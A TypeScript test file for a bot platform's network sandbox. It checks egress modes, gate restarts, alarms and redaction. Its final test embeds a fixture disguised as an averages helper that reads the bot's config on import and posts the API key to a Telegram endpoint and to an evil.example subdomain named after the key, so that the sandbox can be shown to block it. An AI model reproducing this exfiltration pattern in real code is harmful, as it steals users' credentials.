import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it, type TestContext } from 'vitest';
import type { Bot, BotEvent } from '../../src/contract/bot.ts';
import type { BotNetwork } from '../../src/contract/network.ts';
import { isAlive, type ProcessIdentity } from '../../src/node/process-identity.ts';
import { AlarmReceiver } from '../support/alarm-receiver.ts';
import { type TestHost, testHost } from '../support/platform.ts';
import { takePort } from '../support/taken-port.ts';
import { botUntil, call, deployTiny, getBot, lineUntil, logsOf, publish, tell } from '../support/tiny-bot.ts';
import { until } from '../support/until.ts';

/** Bots of a host in the sandbox, which reach the network through the gate alone. */

const SANDBOX = { options: { engine: 'sandbox' } };

/** Fetches an address when a test puts it into a file of its state, and says what came of it. */
const FETCHER = {
  name: 'fetcher',
  type: 'realtime',
  bot: `
import { readdirSync, rmSync } from 'node:fs';
import { log } from '@bot-platform/sdk';
log('environment ' + JSON.stringify(process.env));
const folder = process.env.STATE_DIR;
setInterval(async () => {
  for (const name of readdirSync(folder)) {
    if (!name.startsWith('fetch-')) continue;
    const [, number, where] = name.split('-');
    rmSync(folder + '/' + name);
    const said = await fetch('http://' + where.replaceAll('_', '/')).then(async (answer) => answer.status + ' ' + await answer.text(), (error) => 'failed ' + String(error.cause ?? error));
    log('answer ' + number + ': ' + said);
  }
}, 20);
`,
} as const;

interface LocalServer {
  readonly where: string;
  readonly port: number;
  readonly bodies: string[];
}

/** A server of this machine that keeps what is posted to it. */
async function localServer(onTestFinished: TestContext['onTestFinished']): Promise<LocalServer> {
  const bodies: string[] = [];
  const server = createServer((request, answer) => {
    let body = `${request.method} ${request.url} `;
    request.on('data', (data) => {
      body += data;
    });
    request.on('end', () => {
      bodies.push(body);
      // A connection that stays open was judged when it was made.
      answer.writeHead(200, { connection: 'close' }).end('reached');
    });
  });
  server.listen(0, '127.0.0.2');
  await new Promise((resolve) => server.once('listening', resolve));
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { where: `127.0.0.2:${port}`, port, bodies };
}

const gateIn = (dataDir: string): ProcessIdentity & { readonly port: number } =>
  JSON.parse(readFileSync(join(dataDir, 'gate/process.json'), 'utf8'));

/** Has the bot fetch addresses, one after the other. */
function fetcher(host: TestHost, id: string): (where: string) => Promise<string> {
  let asked = 0;
  return async (where) => {
    asked += 1;
    tell(host, id, `fetch-${asked}-${where}`);
    return (await lineUntil(host, id, `answer ${asked}:`)).message;
  };
}

const networkOf = (host: TestHost, id: string): Promise<BotNetwork> => call(host, 'GET', `/api/v1/bots/${id}/network`);
const blockedOf = async (host: TestHost, id: string): Promise<BotEvent[]> =>
  (await call<{ items: BotEvent[] }>(host, 'GET', `/api/v1/bots/${id}/events?kind=egress_blocked`)).items;

describe.runIf(process.platform === 'linux')('a bot in the sandbox', () => {
  it('reaches the gate alone, which does what the mode says, also when gate or host were killed', async ({
    onTestFinished,
  }) => {
    const host = await testHost(onTestFinished);
    const server = await localServer(onTestFinished);
    const bot = await deployTiny(host, FETCHER, SANDBOX);
    const id = bot.bot_id;
    expect(bot).toMatchObject({ engine: 'sandbox', isolation: 'sandbox' });
    const answer = fetcher(host, id);

    // Without a choice everything passes, through the gate all the same. The program holds neither settings nor a pass.
    const environment = (await lineUntil(host, id, 'environment')).message;
    expect(environment).not.toMatch(/PROXY/i);
    expect(environment).not.toContain(`${id}-`);
    expect(await answer(server.where)).toContain('200 reached');
    expect(await networkOf(host, id)).toMatchObject({ mode: 'open', is_enforced: false });
    const seen = await until('the record', async () =>
      (await networkOf(host, id)).items.find(({ connections }) => connections > 0),
    );
    expect(seen).toMatchObject({ host: '127.0.0.2', port: server.port, blocked: 0 });

    // A name that nobody has: the log says what could not be reached.
    expect(await answer('nobody.invalid')).toContain('failed');
    await lineUntil(host, id, 'nobody.invalid:80 cannot be reached');

    // From now on its permits, without a restart. The price feed of the host goes on.
    await host.json('bot', 'network', 'fetcher', '--mode', 'enforce');
    expect(await networkOf(host, id)).toMatchObject({
      is_enforced: true,
      summary: expect.stringContaining('refuses what no permit allows'),
    });
    // A connection that was open is one of them as soon as the gate has looked at it again.
    await until('the end of what passed before', async () => (await answer(server.where)).includes('failed'));
    const before = server.bodies.length;
    expect(await answer(server.where)).toContain('failed');
    expect(await answer('evil.example')).toContain('failed');
    expect(server.bodies.length).toBe(before);
    const feed = new URL(host.url).host;
    expect(await answer(`${feed}_feed_symbols`)).toMatch(/answer \d+: (?:200|404)/);
    const events = await until('both events', async () => {
      const items = await blockedOf(host, id);
      return items.length >= 2 ? items : null;
    });
    expect(events.map(({ reason }) => reason?.hint)).toEqual(
      expect.arrayContaining([
        expect.stringContaining(`local: [${server.port}]`),
        expect.stringContaining('- {host: evil.example, port: 443, tls: true}'),
      ]),
    );

    // Killed, the gate is back within a second, and nothing passes meanwhile.
    const first = gateIn(host.dataDir);
    process.kill(first.pid, 'SIGKILL');
    const died = performance.now();
    await until('another gate', () => gateIn(host.dataDir).pid !== first.pid);
    const backAfterMs = performance.now() - died;
    expect(gateIn(host.dataDir).port).toBe(first.port);
    expect(backAfterMs).toBeLessThan(10_000);
    expect(await answer(server.where)).toContain('failed');
    expect(server.bodies.length).toBe(before);

    // The next host takes over program and gate, and the way out is the same.
    const second = gateIn(host.dataDir);
    await host.kill();
    expect(await isAlive(second)).toBe(true);
    await host.start();
    expect((await getBot(host, id)).run_id).toBe(bot.run_id ?? (await getBot(host, id)).run_id);
    expect(await answer(server.where)).toContain('failed');
    await host.json('bot', 'network', 'fetcher', '--mode', 'observe');
    expect(await answer(server.where)).toContain('200 reached');

    // A permit of the next version holds from its start on.
    await host.json('bot', 'network', 'fetcher', '--mode', 'enforce');
    const wider = {
      ...FETCHER,
      bot: `${FETCHER.bot}log('wider');`,
      version: '1.1.0',
      permits: { local: [server.port] },
    };
    await publish(host, wider);
    await call<Bot>(host, 'PATCH', `/api/v1/bots/${id}`, { version: '1.1.0' });
    await lineUntil(host, id, 'wider');
    expect(await answer(server.where)).toContain('200 reached');

    // Where it asks for none, it has none.
    await call<Bot>(host, 'PATCH', `/api/v1/bots/${id}`, { options: { engine: 'sandbox', network: 'none' } });
    await until(
      'the restart',
      async () => (await logsOf(host, id)).filter(({ message }) => message === 'wider').length > 1,
    );
    expect(await answer(server.where)).toContain('failed');
    expect((await networkOf(host, id)).summary).toContain('no network');
  });

  it('of which a host answers a query with a program of its own is led to the gate there, too', async ({
    onTestFinished,
  }) => {
    const host = await testHost(onTestFinished);
    const server = await localServer(onTestFinished);
    const tiny = {
      name: 'asked',
      type: 'scheduled',
      bot: `const answer = await fetch('http://${server.where}/run'); console.log('run ' + await answer.text());`,
      query: `
import { query } from '@bot-platform/sdk';
query.handler('/far', async () => ({ said: await fetch('http://${server.where}/query').then((answer) => answer.text(), () => 'failed') }));
query.run();
`,
    } as const;
    const { bot_id: id } = await deployTiny(host, tiny, SANDBOX);
    await call(host, 'POST', `/api/v1/bots/${id}/run`);
    await lineUntil(host, id, 'run reached');
    const ask = (): Promise<object> => call(host, 'POST', `/bot/${id}/query`, { path: '/far', params: {} });
    expect(JSON.stringify(await ask())).toContain('reached');
    await host.json('bot', 'network', 'asked', '--mode', 'enforce');
    expect(JSON.stringify(await ask())).toContain('failed');
    expect(server.bodies.map((body) => body.trim())).toEqual(['GET /run', 'GET /query']);
  });

  it('is told when the gate has had to leave its port, and finds it again at its next start', async ({
    onTestFinished,
  }) => {
    const host = await testHost(onTestFinished);
    const server = await localServer(onTestFinished);
    const receiver = await AlarmReceiver.start(onTestFinished);
    const input = `url=${receiver.url}/in\nsecret=a signing secret of the test\n`;
    await host.cliWith({ input }, 'alarms', 'channels', 'add', 'webhook', 'ops');
    expect(await host.cli('alarms', 'test', 'ops')).toMatchObject({ code: 0 });
    const { bot_id: id } = await deployTiny(host, FETCHER, SANDBOX);
    const answer = fetcher(host, id);
    expect(await answer(server.where)).toContain('200 reached');
    const first = gateIn(host.dataDir);
    await host.kill();
    process.kill(first.pid, 'SIGKILL');
    await until('the end of the gate', async () => !(await isAlive(first)));
    await takePort(first.port, onTestFinished);
    await host.start();
    const lost = await until(
      'the event',
      async () =>
        (await call<{ items: BotEvent[] }>(host, 'GET', `/api/v1/bots/${id}/events?kind=network_lost`)).items[0],
    );
    expect(lost.reason).toMatchObject({
      code: 'GATE_MOVED',
      message: expect.stringContaining(`Its network is gone: the gate had to leave port ${first.port}`),
    });
    const told = await until('the alarm', () =>
      receiver.received.map(({ body }) => body).find((body) => body.includes('has lost its network')),
    );
    expect(told).toContain(`platform bot restart ${id}`);
    expect(await answer(server.where)).toContain('failed');
    const { run_id: before } = await getBot(host, id);
    await call(host, 'POST', `/api/v1/bots/${id}/restart`);
    // What the program before takes up as it ends gets no answer.
    await botUntil(host, id, 'its next start', ({ status, run_id }) => status === 'running' && run_id !== before);
    await until('a way out', async () => (await answer(server.where)).includes('200 reached'));
  });

  it('with a package that posts its key to a chat service gives nothing away, and its owner is told', async ({
    onTestFinished,
  }) => {
    const host = await testHost(onTestFinished);
    const chat = await localServer(onTestFinished);
    const receiver = await AlarmReceiver.start(onTestFinished);
    const input = `url=${receiver.url}/in\nsecret=a signing secret of the test\n`;
    await host.cliWith({ input }, 'alarms', 'channels', 'add', 'webhook', 'ops');
    expect(await host.cli('alarms', 'test', 'ops')).toMatchObject({ code: 0 });
    const key = 'K3Y-0f-an-exchange-4711';
    // The pattern of 2026: a helper that computes averages reads the environment on its first import.
    const thief = {
      name: 'averages',
      type: 'realtime',
      schema: { type: 'object', properties: { api_key: { type: 'string', 'x-secret': true } } },
      bot: `
import { log } from '@bot-platform/sdk';
const fastAverage = (values) => values.reduce((sum, value) => sum + value, 0) / values.length;
const text = encodeURIComponent(process.env.BOT_CONFIG);
const inItsName = 'https://' + JSON.parse(process.env.BOT_CONFIG).api_key + '.evil.example/';
for (const url of ['http://${chat.where}/bot1/sendMessage', 'https://api.telegram.org/bot1/sendMessage', inItsName])
  await fetch(url, { method: 'POST', body: 'chat_id=1&text=' + text }).catch(() => undefined);
log('average ' + fastAverage([1, 2, 3]));
setInterval(() => undefined, 1000);
`,
    } as const;
    // As a plain process it succeeds: what the test looks for can be seen.
    await deployTiny(host, { ...thief, name: 'plain' }, { config: { api_key: key }, options: { engine: 'process' } });
    await until('the stolen key', () => chat.bodies.some((body) => body.includes(key)));
    chat.bodies.length = 0;

    const { bot_id: id } = await deployTiny(host, thief, {
      config: { api_key: key },
      options: { engine: 'sandbox' },
      enabled: false,
    });
    await host.json('bot', 'network', 'averages', '--mode', 'enforce');
    await call(host, 'POST', `/api/v1/bots/${id}/start`);
    await lineUntil(host, id, 'average 2');
    expect(chat.bodies).toEqual([]);
    const told = await until('the alarm', () =>
      receiver.received.map(({ body }) => body).find((body) => body.includes('api.telegram.org')),
    );
    expect(told).toContain('- {host: api.telegram.org, port: 443, tls: true}');
    expect(told).toContain('If you did not expect this, stop the bot');
    // Also where the name of a host holds it, which has lost its capitals by then.
    await until('the alarm', () => receiver.received.some(({ body }) => body.includes('***.evil.example')));
    const network = await until('the record', async () => {
      const found = await networkOf(host, id);
      return found.items.some((one) => one.host === '***.evil.example') ? found : null;
    });
    const events = await blockedOf(host, id);
    expect(events.length).toBe(3);
    const shown = [
      receiver.bodies,
      network,
      events,
      await logsOf(host, id),
      await host.cli('bot', 'network', 'averages'),
    ];
    expect(JSON.stringify(shown).toLowerCase()).not.toContain(key.toLowerCase());
  });
});
